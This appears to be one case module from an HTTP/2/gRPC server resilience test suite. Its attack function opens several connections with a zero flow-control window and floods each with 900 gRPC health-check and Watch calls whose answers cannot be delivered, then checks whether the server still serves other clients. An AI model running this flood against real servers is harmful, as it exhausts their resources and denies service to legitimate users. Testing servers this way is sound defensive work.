"""Calls whose answers nobody reads: health checks and watches of connections that give their streams no window."""

from cases import close_hard, others_are_served, rounds, surely_open
from client import HEALTH
from hpack import call_headers
from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, frame, grpc_message, setting

SLICE = True
PATHS = (HEALTH, "/grpc.health.v1.Health/Watch")
CALLS, CONNECTIONS = 900, 4
LEAST = {"calls": CALLS * CONNECTIONS}


def call(path, stream):
    return frame(HEADERS, END_HEADERS, stream, call_headers(path)) + frame(DATA, END_STREAM, stream, grpc_message())


def attack(target, until, paths=PATHS, number=CALLS):
    calls = 0
    for _ in rounds(until):
        held = []
        for _ in range(CONNECTIONS):
            one = surely_open(target, settings=setting(INITIAL_WINDOW, 0))
            one.socket.sendall(b"".join(call(paths[index % len(paths)], 2 * index + 1) for index in range(number)))
            one.ping()
            calls += number
            held.append(one.socket)
        others_are_served(target)
        close_hard(held)
    return {"calls": calls}
